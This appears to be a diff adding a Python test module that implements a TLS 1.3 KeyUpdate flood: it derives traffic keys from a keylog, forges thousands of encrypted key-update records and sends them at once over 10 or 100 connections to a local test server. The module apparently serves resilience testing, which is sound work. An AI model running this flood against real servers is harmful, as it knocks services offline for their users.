@@ -1,0 +1,102 @@
+"""Clients that demand new keys again and again: it takes a server longer than anything else of as many bytes."""
+
+from __future__ import annotations
+
+import hmac
+import socket
+import ssl
+import tempfile
+import time
+from contextlib import suppress
+from functools import partial
+from pathlib import Path
+from typing import TYPE_CHECKING, Final
+
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+from tests.attacks import Attack
+from tests.attacks.target import together, trusting
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+    from tests.attacks.target import Target
+
+DEMANDS: Final = 2400
+"""How many fill the server's buffer of a connection."""
+_CIPHER: Final = "TLS_AES_256_GCM_SHA384"
+_DATA, _HANDSHAKE = b"\x17", b"\x16"
+_KEY_UPDATE: Final = b"\x18\0\0\1\1"
+
+
+class Keys:
+    """Encrypts by the keys that a client has after its handshake (RFC 8446, section 7).
+
+    Args:
+        log: The keys of one connection, as ``SSLContext.keylog_filename`` has them.
+    """
+
+    def __init__(self, log: str) -> None:
+        (line,) = (line for line in log.splitlines() if line.startswith("CLIENT_TRAFFIC_SECRET_0 "))
+        self._secret = bytes.fromhex(line.split()[2])
+        self._records = 0
+
+    def demand(self) -> bytes:
+        """Demand new keys; what follows is encrypted by them."""
+        written = self.record(_KEY_UPDATE, _HANDSHAKE)
+        self._secret, self._records = self._expand(b"traffic upd", len(self._secret)), 0
+        return written
+
+    def record(self, content: bytes, kind: bytes = _DATA) -> bytes:
+        """Encrypt a record."""
+        nonce = (int.from_bytes(self._expand(b"iv", 12)) ^ self._records).to_bytes(12)
+        header = b"\x17\x03\x03" + (len(content) + 17).to_bytes(2)
+        self._records += 1
+        return header + AESGCM(self._expand(b"key", 32)).encrypt(nonce, content + kind, header)
+
+    def _expand(self, label: bytes, length: int) -> bytes:
+        label = b"tls13 " + label
+        return hmac.digest(self._secret, b"\0%c%c%b\0\1" % (length, len(label), label), "sha384")[:length]
+
+
+def keyed(context: ssl.SSLContext, plain: socket.socket, host: str = "127.0.0.1") -> tuple[ssl.SSLSocket, Keys]:
+    """Shake hands; return the connection and its keys."""
+    with tempfile.TemporaryDirectory() as directory:
+        log = Path(directory) / "keys"
+        context.keylog_filename = str(log)
+        connection = context.wrap_socket(plain, server_hostname=host)
+        assert connection.cipher()[0] == _CIPHER  # type: ignore[index]
+        return connection, Keys(log.read_text(encoding="ascii"))
+
+
+def send_sealed(connection: ssl.SSLSocket, data: bytes) -> None:
+    """Send what is encrypted already."""
+    socket.socket.sendall(connection, data)
+
+
+def _demanding(connections: int) -> Callable[[Target], list[str]]:
+    def send(connection: ssl.SSLSocket, demands: bytes) -> None:
+        with suppress(OSError):
+            connection.settimeout(2)
+            send_sealed(connection, demands)
+
+    def run(target: Target) -> list[str]:
+        while not target.is_over:
+            ready = list[tuple[ssl.SSLSocket, bytes]]()
+            for _ in range(connections):
+                with suppress(OSError):
+                    connection, keys = keyed(trusting(target.ca), target.plain())
+                    ready.append((connection, b"".join(keys.demand() for _ in range(DEMANDS))))
+            together(*(partial(send, *each) for each in ready))
+            time.sleep(0.2)
+            for connection, _ in ready:
+                connection.close()
+        return []
+
+    return run
+
+
+ATTACK = {
+    str(count): Attack(f"new keys demanded {DEMANDS:,} times at once, on {count} connections", _demanding(count))
+    for count in (10, 100)
+}
